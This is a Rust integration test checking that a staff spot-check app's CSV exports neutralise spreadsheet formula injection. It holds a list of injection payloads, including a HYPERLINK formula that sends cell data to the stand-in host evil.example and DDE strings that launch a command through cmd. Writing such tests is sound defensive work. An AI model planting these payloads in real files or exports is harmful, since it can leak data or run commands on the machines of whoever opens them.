//! Exports and the server's edges over HTTP, on SQLite and PostgreSQL: spreadsheet
//! formulas in CSV exports are neutralised.

mod common;

use std::collections::BTreeMap;

use common::{BACKENDS, TestApp, World, seed_world};
use decorum::domain::ItemKind;
use decorum::domain::form::to_fields;
use decorum::domain::scoring::{Answer, Context, Gender, Subject};
use reqwest::Client;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};

/// What the probe typed into notes and names: each would run as a formula in Excel.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點擊\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

fn today() -> chrono::NaiveDate {
    chrono::Local::now().date_naive()
}

/// Submit a spot-check of `subject` (a female lobby concierge at site A) by `client`,
/// with the given check items failed and notes; returns its id.
async fn submit(
    app: &TestApp,
    client: &Client,
    csrf: &str,
    w: &World,
    subject: i32,
    failed: &[String],
    notes: &BTreeMap<String, String>,
) -> uuid::Uuid {
    let lobby = common::lobby(&app.test_db.db).await;
    let who = Subject {
        gender: Some(Gender::Female),
        position: Some("lobby-concierge".into()),
    };
    let mut answers = common::perfect_answers(&lobby.checklist, &who, &Context::new());
    for key in failed {
        answers.insert(key.clone(), Answer::Fail);
    }
    let id = uuid::Uuid::new_v4();
    let mut body = vec![
        ("_csrf".to_string(), csrf.to_string()),
        ("version".into(), lobby.version_id.to_string()),
        ("site".into(), w.site_a.to_string()),
        ("subject".into(), subject.to_string()),
        ("shift_date".into(), today().to_string()),
        ("shift_period".into(), "morning".into()),
    ];
    body.extend(to_fields(&answers, notes, &Context::new()));
    let reply = client
        .post(app.url(&format!("/spotchecks/{id}/submit")))
        .header("accept", "application/json")
        .form(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(reply.status(), 200, "{}", reply.text().await.unwrap());
    id
}

/// Check items of the lobby checklist that apply to a female lobby concierge.
async fn check_items(app: &TestApp, n: usize) -> Vec<String> {
    let lobby = common::lobby(&app.test_db.db).await;
    let who = Subject {
        gender: Some(Gender::Female),
        position: Some("lobby-concierge".into()),
    };
    let applies = common::perfect_answers(&lobby.checklist, &who, &Context::new());
    let keys: Vec<String> = lobby
        .checklist
        .items()
        .map(|(_, i)| i)
        .filter(|i| matches!(i.kind, ItemKind::Check) && applies.contains_key(&i.key))
        .map(|i| i.key.clone())
        .take(n)
        .collect();
    assert_eq!(keys.len(), n, "the lobby checklist has {n} check items");
    keys
}

#[tokio::test]
async fn csv_exports_neutralise_spreadsheet_formulas() {
    for backend in BACKENDS {
        let Some(app) = TestApp::spawn(backend, "csv_formulas").await else {
            continue;
        };
        let w = seed_world(&app.test_db.db).await;
        // An admin records a person whose name is a formula.
        let (admin, admin_csrf) = app.sign_in("admin@t.test").await;
        let site_a = w.site_a.to_string();
        let name = "=HYPERLINK(\"http://evil.example/\",\"陳美玲\")";
        let created = admin
            .post(app.url("/admin/people"))
            .form(&[
                ("_csrf", admin_csrf.as_str()),
                ("name", name),
                ("email", "formula@t.test"),
                ("role", "staff"),
                ("site", &site_a),
                ("position", "lobby-concierge"),
                ("gender", "female"),
                ("password", "long-enough-1"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(created.status(), 303, "{}", created.text().await.unwrap());
        let person = entity::user::Entity::find()
            .filter(entity::user::Column::Email.eq("formula@t.test"))
            .one(&app.test_db.db)
            .await
            .unwrap()
            .expect("the person is stored");
        assert_eq!(person.name, name);

        // A supervisor checks them, with every payload as a note on a failed item.
        let (sup, sup_csrf) = app.sign_in("supervisor.a@t.test").await;
        let failed = check_items(&app, PAYLOADS.len()).await;
        let notes: BTreeMap<String, String> = failed
            .iter()
            .zip(PAYLOADS)
            .map(|(k, p)| (k.clone(), p.to_string()))
            .collect();
        submit(&app, &sup, &sup_csrf, &w, person.id, &failed, &notes).await;

        let (quality, _) = app.sign_in("quality@t.test").await;
        let range = format!("from={}&to={}", today(), today());
        for export in ["inspections.csv", "responses.csv"] {
            let reply = quality
                .get(app.url(&format!("/quality/{export}?{range}")))
                .send()
                .await
                .unwrap();
            assert_eq!(reply.status(), 200, "{export}");
            let bytes = reply.bytes().await.unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(true)
                .from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes));
            let header = reader.headers().unwrap().clone();
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert!(!rows.is_empty(), "{backend:?}: {export} has the spot-check");
            let mut numbers = 0;
            for row in &rows {
                for (column, cell) in header.iter().zip(row.iter()) {
                    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                        assert!(
                            cell.parse::<f64>().is_ok(),
                            "{backend:?}: {export} column {column} starts a formula: {cell:?}"
                        );
                    }
                    if ["score", "max_score", "percent", "points", "max_points"].contains(&column) {
                        assert!(cell.parse::<f64>().is_ok(), "{column} = {cell:?}");
                        numbers += 1;
                    }
                }
            }
            assert!(numbers > 0, "{export} has numeric columns, kept numeric");
            let cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
            let shown = |text: &str| cells.contains(&format!("'{text}").as_str());
            if export == "inspections.csv" {
                assert!(shown(name), "{backend:?}: the name is kept, as text");
            } else {
                // Notes are stored trimmed: a leading tab or CR is gone before export.
                for payload in PAYLOADS.map(str::trim_start) {
                    assert!(
                        shown(payload),
                        "{backend:?}: the note {payload:?} is kept, as text"
                    );
                }
            }
        }
    }
}
